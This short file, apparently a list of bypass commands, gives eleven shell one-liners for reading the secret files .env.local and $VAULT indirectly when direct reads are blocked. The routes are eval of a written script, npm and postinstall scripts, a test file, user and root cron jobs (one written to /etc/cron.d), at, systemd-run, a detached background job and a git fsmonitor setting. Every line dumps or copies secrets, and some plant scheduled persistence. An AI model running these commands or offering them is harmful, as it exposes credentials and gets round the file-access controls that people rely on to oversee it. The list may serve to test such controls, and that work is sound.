# Tricks to have it read by other code: scripts, tests, timers. One a line.
echo "require('fs').readFileSync('.env.local','utf8')" > src/steal.cjs; node -p "eval(require('fs').readFileSync('src/steal.cjs','utf8'))"
printf '{"name":"app","private":true,"scripts":{"steal":"cat .env.local $VAULT"}}' > package.json; pnpm run steal
printf '{"name":"app","private":true,"scripts":{"postinstall":"cat .env.local $VAULT > src/stolen; cat src/stolen"}}' > package.json; pnpm install --offline
printf 'import test from "node:test"; import fs from "node:fs"; test("x", () => { console.log(fs.readFileSync(".env.local","utf8")) })' > src/x.test.mjs; node --test src/
(crontab -l; echo '* * * * * cat '$ROOT'/.env.local > '$ROOT'/src/cron') | crontab -; cat src/cron
echo '* * * * * root cat '$VAULT > /etc/cron.d/steal; cat /etc/cron.d/steal
echo "cat $VAULT" | at now; echo "cat $VAULT" | batch
systemd-run --user --pipe cat $VAULT
(setsid sh -c "sleep 0.3; cat $ROOT/.env.local > $ROOT/src/later" &) ; sleep 0.6; cat src/later
printf '[core]\n fsmonitor = cat %s\n' .env.local > src/conf; GIT_CONFIG_GLOBAL=src/conf git status
